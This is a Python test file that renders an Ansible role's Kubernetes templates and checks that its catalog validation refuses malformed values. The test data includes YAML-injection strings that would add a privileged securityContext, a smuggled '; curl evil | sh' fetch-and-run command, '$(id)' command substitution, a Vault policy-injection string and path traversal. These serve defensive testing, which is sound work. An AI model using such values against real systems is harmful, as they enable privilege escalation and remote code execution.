"""The apps role's templates and its check of apps_catalog, rendered as Ansible renders them.

The templates go through Ansible's own Templar and its `template` lookup (the way the role's
set_fact calls them), with the role's defaults and vars loaded as role variables are; the
output is read back with yaml.safe_load. A value that carries a newline, ': ', '#' or quotes
must come back as that one value, never as an extra key. The check
(templates/checks/catalog-errors.json.j2) must refuse bad values and name the app and the field,
and the role must stop at its first task.
"""

import copy
import json
import os
import shutil
import subprocess
import sys

import pytest
import yaml

from ansible.parsing.dataloader import DataLoader
from ansible.plugins.loader import init_plugin_loader
from ansible.template import Templar, trust_as_template
from ansible.utils.collection_loader import AnsibleCollectionConfig

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))
ROLE = os.path.join(ROOT, "roles", "apps")
TEMPLATES = os.path.join(ROLE, "templates", "repo")

# The tag of the review (defect 23): a newline, then a key at the container's indentation.
EVIL_TAG = "6.7.1\n          securityContext: {privileged: true}"
# Strings that break YAML when written unquoted, each with a key of its own to look for.
EVIL = [
    "x\n          injected: true",
    "x\n  injected: true",
    "x\ninjected: true",
    "x: {injected: true}",
    "x # injected: true",
    '"x", injected: true',
    "x\r\ninjected: true",
    "x\u2028injected: true",
    "x\x85injected: true",
    "{injected: true}",
    "[x, {injected: true}]",
    "*x",
    "&x injected",
    "- injected",
    "'x'\ninjected: true",
    "\\\"\ninjected: true",
]


def templar(**overrides):
    """A Templar with the role's defaults and vars (trusted, as Ansible loads them) and overrides."""
    if not AnsibleCollectionConfig.collection_finder:
        init_plugin_loader([])
    loader = DataLoader()
    variables = {}
    for name in ("defaults", "vars"):
        variables.update(loader.load_from_file(os.path.join(ROLE, name, "main.yml"), trusted_as_template=True))
    variables.update(ansible_search_path=[ROLE], role_path=ROLE, cluster_kubeconfig="/dev/null",
                     vault_served_url="http://127.0.0.1:18200", flux_registry="")
    variables.update(overrides)
    return Templar(loader=loader, variables=variables)


def render_template(engine, template, **template_vars):
    """What `lookup('ansible.builtin.template', template, template_vars=...)` gives in the role."""
    engine.available_variables = dict(engine.available_variables, _template_vars=template_vars)
    return str(engine.template(trust_as_template(
        "{{ lookup('ansible.builtin.template', %r, template_vars=_template_vars) }}" % template)))


def catalog_errors(**overrides):
    engine = templar(**overrides)
    return json.loads(str(engine.template(trust_as_template(
        "{{ lookup('ansible.builtin.template', 'checks/catalog-errors.json.j2') }}"))))


_CATALOG = []


def default_catalog():
    """The role's default apps_catalog, a copy of its own for each caller."""
    if not _CATALOG:
        _CATALOG.append(templar().template(trust_as_template("{{ apps_catalog }}")))
    return copy.deepcopy(_CATALOG[0])


def walk(node):
    """Every key and every scalar of a parsed document."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield key
            yield from walk(value)
    elif isinstance(node, list):
        for value in node:
            yield from walk(value)
    else:
        yield node


def full_app(**changes):
    """An app with every field the templates read (the routing apps_list adds included)."""
    app = dict(name="podinfo", namespace="demo", image="ghcr.io/stefanprodan/podinfo", tag="6.7.1", port=9898,
               container="podinfo", env={"ERROR_FRACTION": "0"}, vault={}, routing="gatewayapi",
               provider="gatewayapi:v1", host="podinfo.example.local", conformance_path="/healthz",
               automation={"semver": ">=6.7.0"}, strategy="canary",
               canary=dict(interval="10s", threshold=2, maxWeight=50, stepWeight=10, progressDeadlineSeconds=60,
                           metrics=[dict(name="request-success-rate", thresholdRange={"min": 99}, interval="15s")]))
    app.update(changes)
    return app


def render_all(app, **overrides):
    """Every template of templates/repo for this app: {template: [documents]}."""
    engine = templar(**overrides)
    documents = {}
    for template in sorted(os.listdir(TEMPLATES)):
        if template == "namespace.yaml.j2":
            out = render_template(engine, "repo/" + template, namespace=app["namespace"])
        else:
            out = render_template(engine, "repo/" + template, app=app)
        documents[template] = [doc for doc in yaml.safe_load_all(out) if doc is not None]
    return documents


# What the review ran (r_template_inject.py), through Ansible: one scalar, no securityContext.
def test_a_tag_with_a_newline_stays_one_scalar_of_the_deployment():
    app = full_app(tag=EVIL_TAG)
    out = render_template(templar(), "repo/deployment.yaml.j2", app=app)
    deployment = yaml.safe_load(out)
    container = deployment["spec"]["template"]["spec"]["containers"][0]
    assert sorted(container) == ["env", "image", "name", "ports"]
    assert "securityContext" not in container
    assert container["image"] == "ghcr.io/stefanprodan/podinfo:" + EVIL_TAG
    assert "securityContext" not in list(walk(deployment))


FIELDS = ["name", "namespace", "image", "tag", "container", "host", "conformance_path", "vault.service_account",
          "vault.auth_role", "vault.database_role", "vault.transit_key", "env.key", "env.value", "automation.semver",
          "automation.repository", "canary.interval"]


def poisoned(fields, evil):
    app = full_app()
    for field in fields:
        if field == "env.key":
            app["env"] = {evil: app["env"].get("ERROR_FRACTION", "0")}
        elif field == "env.value":
            app["env"] = {key: evil for key in app["env"]}
        elif "." in field:
            parent, child = field.split(".")
            app[parent] = dict(app[parent], **{child: evil})
        else:
            app[field] = evil
    return app


def assert_no_key_added(documents, why):
    for template, found in documents.items():
        assert found, template
        items = list(walk(found))
        assert "injected" not in items and "securityContext" not in items, (template, why)
        assert not any(isinstance(item, str) and item.startswith("injected") for item in items), (template, why)
        # Each document is still one of Kubernetes' objects, its keys where they were.
        for document in found:
            assert sorted(document) in (["apiVersion", "kind", "metadata", "spec"], ["apiVersion", "kind", "resources"],
                                        ["apiVersion", "kind", "metadata"]), (template, document)


@pytest.mark.parametrize("field", FIELDS)
def test_no_catalog_value_adds_a_key_to_any_template(field):
    """Each field alone, with the review's tag-like value."""
    assert_no_key_added(render_all(poisoned([field], EVIL_TAG)), field)


@pytest.mark.parametrize("evil", EVIL)
def test_no_string_breaks_out_of_any_field(evil):
    """Every field at once with each string that breaks YAML unquoted."""
    assert_no_key_added(render_all(poisoned(FIELDS, evil)), evil)


VARIABLES = ["apps_vault_address", "apps_vault_auth_mount", "apps_vault_database_mount", "apps_vault_transit_mount",
             "apps_environment"]


@pytest.mark.parametrize("evil", EVIL)
def test_no_role_variable_adds_a_key(evil):
    documents = render_all(full_app(), **{variable: evil for variable in VARIABLES})
    assert_no_key_added(documents, evil)
    container = documents["deployment.yaml.j2"][0]["spec"]["template"]["spec"]["containers"][0]
    assert sorted(container) == ["env", "image", "name", "ports"]
    values = {entry["name"]: entry["value"] for entry in container["env"]}
    assert [values[name] for name in ("VAULT_ADDR", "VAULT_AUTH_MOUNT", "VAULT_DATABASE_MOUNT",
                                      "VAULT_TRANSIT_MOUNT")] == [evil] * 4


def test_values_come_back_as_they_were_given():
    app = full_app(name="pod: info", namespace="a\nb", tag="1 # 2", container="c\"d", env={"K": "v\nw", "N": 5})
    documents = render_all(app)
    deployment = documents["deployment.yaml.j2"][0]
    assert deployment["metadata"] == {"name": "pod: info", "namespace": "a\nb",
                                      "labels": {"app.kubernetes.io/name": "pod: info"}}
    container = deployment["spec"]["template"]["spec"]["containers"][0]
    assert container["name"] == 'c"d' and container["image"] == "ghcr.io/stefanprodan/podinfo:1 # 2"
    assert container["ports"] == [{"containerPort": 9898, "name": "http"}]
    assert deployment["spec"]["template"]["spec"]["serviceAccountName"] == "pod: info"
    env = documents["env.yaml.j2"][0]["spec"]["template"]["spec"]["containers"][0]["env"]
    assert env == [{"name": "K", "value": "v\nw"}, {"name": "N", "value": "5"}]
    account = documents["serviceaccount.yaml.j2"][0]
    assert account["metadata"] == {"name": "pod: info", "namespace": "a\nb"}


@pytest.mark.parametrize("name", ["podinfo", "face", "smiley", "color", "faces-gui", "frontend", "webapp"])
def test_the_default_catalog_renders_as_before(name):
    catalog = default_catalog()
    app = dict(catalog[name], name=name, routing="nginx" if catalog[name].get("provider") == "nginx" else "mesh")
    documents = render_all(app)
    deployment = documents["deployment.yaml.j2"][0]
    spec = deployment["spec"]["template"]["spec"]
    assert deployment["metadata"] == {"name": name, "namespace": catalog[name]["namespace"],
                                      "labels": {"app.kubernetes.io/name": name}}
    assert deployment["spec"]["selector"] == {"matchLabels": {"app.kubernetes.io/name": name}}
    container = spec["containers"][0]
    assert container["name"] == catalog[name].get("container", name)
    assert container["image"] == "%s:%s" % (catalog[name]["image"], catalog[name]["tag"])
    assert container["ports"] == [{"containerPort": catalog[name]["port"], "name": "http"}]
    if "vault" in catalog[name]:
        assert spec["serviceAccountName"] == name
        assert {entry["name"]: entry["value"] for entry in container["env"]} == {
            "VAULT_ADDR": "http://127.0.0.1:18200", "VAULT_ROLE": name, "VAULT_DATABASE_ROLE": name,
            "VAULT_TRANSIT_KEY": name, "VAULT_AUTH_MOUNT": "kubernetes", "VAULT_DATABASE_MOUNT": "database",
            "VAULT_TRANSIT_MOUNT": "transit"}
        assert documents["serviceaccount.yaml.j2"][0] == {
            "apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name, "namespace": "webapp"}}
    else:
        assert "serviceAccountName" not in spec and "env" not in container
    env = documents["env.yaml.j2"][0]["spec"]["template"]["spec"]["containers"][0]
    assert env["env"] == [{"name": key, "value": str(value)}
                          for key, value in catalog[name].get("env", {"ERROR_FRACTION": "0"}).items()]
    assert documents["base-kustomization.yaml.j2"][0]["resources"][-1] == "canary.yaml"


# The check: nothing wrong with the defaults, and every fault named by app and field.

def test_the_default_catalog_passes_the_check():
    assert catalog_errors(apps_enabled=list(default_catalog())) == []


BAD = [
    ("podinfo", "tag", EVIL_TAG),
    ("podinfo", "tag", "6.7.1 "),
    ("podinfo", "tag", ".hidden"),
    ("podinfo", "tag", "-rc1"),
    ("podinfo", "tag", "a" * 129),
    ("podinfo", "tag", "v1:2"),
    ("podinfo", "tag", 6.1),
    ("podinfo", "tag", None),
    ("podinfo", "image", "ghcr.io/stefanprodan/podinfo:6.7.1"),
    ("podinfo", "image", "ghcr.io/stefanprodan/podinfo@sha256:" + "0" * 64),
    ("podinfo", "image", "ghcr.io/Stefanprodan/podinfo"),
    ("podinfo", "image", "ghcr.io/stefanprodan/podinfo\n"),
    ("podinfo", "image", "ghcr.io/stefan prodan/podinfo"),
    ("podinfo", "image", "ghcr.io/" + "a" * 250),
    ("podinfo", "image", ""),
    ("podinfo", "namespace", "demo\n"),
    ("podinfo", "namespace", "Demo"),
    ("podinfo", "namespace", "a" * 64),
    ("podinfo", "namespace", 5),
    ("podinfo", "port", 0),
    ("podinfo", "port", 65536),
    ("podinfo", "port", "9898"),
    ("podinfo", "port", True),
    ("podinfo", "container", "podinfo\n  privileged: true"),
    ("podinfo", "container", "Pod_Info"),
    ("podinfo", "strategy", "linear"),
    ("podinfo", "provider", "gatewayapi"),
    ("podinfo", "provider", "istio\n"),
    ("podinfo", "host", "podinfo.example.local\nx: y"),
    ("podinfo", "host", "pod info"),
    ("podinfo", "conformance_path", "/healthz; curl evil | sh"),
    ("podinfo", "conformance_path", "/healthz$(id)"),
    ("podinfo", "conformance_path", "healthz"),
    ("podinfo", "canary", "interval: 10s"),
    ("podinfo", "canary.progressDeadlineSeconds", "60"),
    ("podinfo", "canary.metrics", {"name": "x"}),
    ("podinfo", "canary.metrics[0]", "request-success-rate"),
    ("podinfo", "env", ["ERROR_FRACTION=0"]),
    ("podinfo", "env.ERROR_FRACTION", {"nested": "map"}),
    ("podinfo", "env.BAD NAME", "0"),
    ("podinfo", "service", "port: 80"),
    ("podinfo", "automation", "yes"),
    ("podinfo", "automation.repository", "127.0.0.1:5000/podinfo:latest"),
    ("podinfo", "automation.interval", "1 minute"),
    ("podinfo", "automation.semver", ">=1.0.0\nx"),
    ("webapp", "vault", "yes"),
    ("webapp", "vault.service_account", "*"),
    ("webapp", "vault.service_account", "webapp\n"),
    ("webapp", "vault.transit_key", 'webapp"}\npath "*" {'),
    ("webapp", "vault.transit_key", "*"),
    ("webapp", "vault.transit_key", "../sys"),
    ("webapp", "vault.database_role", "a/b"),
    ("webapp", "vault.auth_role", "a b"),
    ("webapp", "vault.policy", "root+"),
    ("webapp", "vault.database", "postgres${x}"),
]


def with_value(catalog, app, field, value):
    """The catalog with apps_catalog[app].<field> set (field: a.b, a.b[0], env.NAME)."""
    entry = catalog[app]
    parts = field.split(".", 1)
    if len(parts) == 1:
        entry[field] = value
    elif parts[1].endswith("[0]"):
        entry[parts[0]][parts[1][:-3]][0] = value
    elif parts[0] == "env" and " " in parts[1]:
        entry["env"] = {parts[1]: value}
    else:
        if not isinstance(entry.get(parts[0]), dict):
            entry[parts[0]] = {}
        entry[parts[0]][parts[1]] = value
    return catalog


@pytest.mark.parametrize("app,field,value", BAD, ids=["%s.%s=%r" % bad for bad in BAD])
def test_the_check_refuses_a_bad_value_naming_app_and_field(app, field, value):
    catalog = with_value(default_catalog(), app, field, value)
    errors = catalog_errors(apps_enabled=["podinfo", "webapp"], apps_catalog=catalog)
    assert len(errors) == 1, errors
    named = "apps_catalog.%s.%s" % (app, field.split(" ")[0] if not field.startswith("env.BAD") else "env")
    assert errors[0].startswith(named + ":"), errors
    if value is not None:
        assert json.dumps(value, sort_keys=False)[:20].strip('"') in errors[0] or field.startswith("env.BAD"), errors


def test_the_check_names_a_missing_field_and_an_unknown_app():
    catalog = default_catalog()
    del catalog["podinfo"]["tag"]
    del catalog["podinfo"]["canary"]
    errors = catalog_errors(apps_enabled=["podinfo", "nope"], apps_catalog=catalog)
    assert errors == ["apps_catalog.podinfo.tag: is required", "apps_catalog.podinfo.canary: is required",
                      'apps_enabled: "nope" is not an app of apps_catalog'], errors


def test_the_check_refuses_bad_names():
    catalog = default_catalog()
    catalog["Pod\ninfo"] = catalog["podinfo"]
    catalog["1podinfo"] = catalog["podinfo"]
    catalog["a" * 56] = catalog["podinfo"]
    errors = catalog_errors(apps_enabled=["Pod\ninfo", "1podinfo", "a" * 56], apps_catalog=catalog)
    assert len(errors) == 3, errors
    assert errors[0].startswith('apps_catalog["Pod\\ninfo"]: the app\'s name must be a DNS-1035 label'), errors
    assert errors[1].startswith("apps_catalog.1podinfo: the app's name"), errors
    assert errors[2].startswith("apps_catalog.%s: the app's name" % ("a" * 56)), errors


def test_the_check_refuses_ab_without_match_and_nginx_without_a_class():
    catalog = default_catalog()
    del catalog["faces-gui"]["canary"]["match"]
    errors = catalog_errors(apps_enabled=["faces-gui"], apps_catalog=catalog, apps_ingress_class="")
    assert errors == ["apps_catalog.faces-gui.provider: nginx routes the app through an Ingress, and "
                      "apps_ingress_class is empty",
                      "apps_catalog.faces-gui.canary.match: strategy ab needs a list of Flagger's HTTP match "
                      "conditions"], errors


@pytest.mark.parametrize("variable,value", [
    ("apps_environment", "staging\n"), ("apps_environment", "Staging"),
    ("apps_vault_address", 'http://vault:8200"\nx: y'), ("apps_vault_address", "vault:8200"),
    ("apps_vault_auth_mount", "kubernetes\n"), ("apps_vault_database_mount", "data*"),
    ("apps_vault_transit_mount", "/transit"), ("apps_vault_transit_mount", "a//b")])
def test_the_check_refuses_bad_role_variables(variable, value):
    errors = catalog_errors(apps_enabled=["webapp"], **{variable: value})
    assert len(errors) == 1 and errors[0].startswith(variable + ":"), errors


def test_the_vault_variables_are_checked_only_for_vault_apps():
    assert catalog_errors(apps_enabled=["podinfo"], apps_vault_transit_mount="a b") == []


def test_a_tag_may_be_an_integer():
    catalog = default_catalog()
    catalog["podinfo"]["tag"] = 7
    assert catalog_errors(apps_enabled=["podinfo"], apps_catalog=catalog) == []
    app = dict(catalog["podinfo"], name="podinfo", routing="mesh")
    out = render_template(templar(), "repo/deployment.yaml.j2", app=app)
    assert yaml.safe_load(out)["spec"]["template"]["spec"]["containers"][0]["image"] == "ghcr.io/stefanprodan/podinfo:7"


def test_the_first_task_runs_the_check():
    with open(os.path.join(ROLE, "tasks", "main.yml")) as handle:
        first = yaml.safe_load(handle)[0]
    assert first["name"] == "Check the apps" and "ansible.builtin.assert" in first
    assert "checks/catalog-errors.json.j2" in first["vars"]["apps_input_errors"]
    assert "when" not in first


def ansible_playbook():
    found = shutil.which("ansible-playbook") or os.path.join(os.path.dirname(sys.executable), "ansible-playbook")
    if not os.path.exists(found):
        pytest.skip("ansible-playbook is not installed")
    return found


def test_the_role_stops_at_its_first_task_naming_app_and_field(tmp_path):
    """The role itself, on localhost: the check fails before any other task runs."""
    catalog = default_catalog()
    catalog["podinfo"]["tag"] = EVIL_TAG
    playbook = tmp_path / "play.yml"
    playbook.write_text(yaml.safe_dump([{"name": "apps", "hosts": "localhost", "gather_facts": False,
                                         "roles": [{"role": "gitops.progressive.apps"}]}]))
    variables = {"apps_catalog": catalog, "apps_enabled": ["podinfo"], "cluster_kubeconfig": "/dev/null"}
    env = dict(os.environ, ANSIBLE_STDOUT_CALLBACK="json", ANSIBLE_CONFIG=os.path.join(ROOT, "ansible.cfg"),
               ANSIBLE_COLLECTIONS_PATH=os.path.join(ROOT, ".build", "collections"),
               ANSIBLE_HOME=str(tmp_path / "ansible-home"), ANSIBLE_NOCOLOR="1")
    done = subprocess.run([ansible_playbook(), "-i", "localhost,", "-c", "local", str(playbook),
                           "-e", json.dumps(variables)], capture_output=True, text=True, env=env, cwd=str(tmp_path),
                          timeout=300, check=False)
    assert done.returncode == 2, done.stdout + done.stderr
    result = json.loads(done.stdout)
    tasks = result["plays"][0]["tasks"]
    assert tasks[-1]["task"]["name"].endswith(" : Check the apps"), tasks
    assert len(tasks) <= 2, [task["task"]["name"] for task in tasks]  # the argument spec's validation, the check
    message = tasks[-1]["hosts"]["localhost"]["msg"]
    assert "apps_catalog.podinfo.tag" in message and "securityContext" in message, message


TRAEFIK = dict(mesh_gateway_ref={"name": "traefik-gateway", "namespace": "traefik"}, mesh_gateway_metrics="traefik",
               mesh_ingress_url="http://127.0.0.1:18080", cluster_real_node_count="1",
               # The cluster role's facts.
               cluster_real_node_selector={"gitops.progressive/real-node": "true"},
               cluster_real_node_tolerations=[{"key": "gitops.progressive/real-node", "operator": "Exists",
                                               "effect": "NoSchedule"}])


def test_a_traefik_canary_attaches_to_the_gateway_by_host_and_is_analysed_on_traefiks_series():
    documents = render_all(full_app(), **TRAEFIK)
    canary = documents["canary.yaml.j2"][0]["spec"]
    assert canary["service"]["gatewayRefs"] == [{"name": "traefik-gateway", "namespace": "traefik"}]
    assert canary["service"]["hosts"] == ["podinfo.example.local"]
    metric = canary["analysis"]["metrics"][0]
    assert metric["name"] == metric["templateRef"]["name"] == "podinfo-traefik-request-success-rate"
    templates = {doc["metadata"]["name"]: doc["spec"]["query"] for doc in documents["metric-templates.yaml.j2"]}
    assert set(templates) == {"podinfo-traefik-request-success-rate", "podinfo-traefik-request-duration"}
    assert ('{{ namespace }}-{{ target }}-canary-http-[0-9]+@kubernetesgateway'
            in templates["podinfo-traefik-request-success-rate"])
    # The load goes through the Gateway with the app's host: Traefik counts what it splits.
    load = [hook for hook in canary["analysis"]["webhooks"] if hook["name"] == "load-test"][0]
    assert load["metadata"]["cmd"] == "hey -z 1m -q 10 -c 2 -host podinfo.example.local http://127.0.0.1:18080/"


def test_apps_run_on_the_real_node_when_the_cluster_has_one():
    pod = render_all(full_app(), **TRAEFIK)["deployment.yaml.j2"][0]["spec"]["template"]["spec"]
    assert pod["nodeSelector"] == {"gitops.progressive/real-node": "true"}
    assert pod["tolerations"] == [{"key": "gitops.progressive/real-node", "operator": "Exists", "effect": "NoSchedule"}]
    plain = render_all(full_app())["deployment.yaml.j2"][0]["spec"]["template"]["spec"]
    assert "nodeSelector" not in plain and "tolerations" not in plain


def test_a_linkerd_canary_still_routes_on_its_service_with_linkerds_metrics():
    canary = render_all(full_app())["canary.yaml.j2"][0]["spec"]
    assert canary["service"]["gatewayRefs"][0]["kind"] == "Service" and "hosts" not in canary["service"]
    assert canary["analysis"]["metrics"][0]["templateRef"]["name"] == "podinfo-linkerd-request-success-rate"
